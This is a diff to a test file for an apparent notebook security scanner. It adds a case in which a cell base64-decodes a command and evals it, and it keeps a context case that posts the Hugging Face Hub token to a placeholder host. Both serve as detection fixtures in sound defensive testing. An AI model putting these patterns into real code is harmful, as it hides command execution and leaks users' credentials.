@@ -39,6 +39,11 @@ describe('new python sinks in notebooks', () => {
       'python/dynamic-exec critical notebook.ipynb!/cells/1',
     ],
     [
+      'a ! line evals a variable a previous ! line decoded',
+      ['x = 1\n', '!L=$(echo aWQ= | base64 -d)\n!eval "$L"\n'],
+      'python/dynamic-exec critical notebook.ipynb!/cells/1',
+    ],
+    [
       'the Hub token posted',
       ['import requests\nfrom huggingface_hub import get_token\n', "requests.post('https://x.example.com', data=get_token())\n"],
       'python/credential-exfiltration high notebook.ipynb!/cells/1',
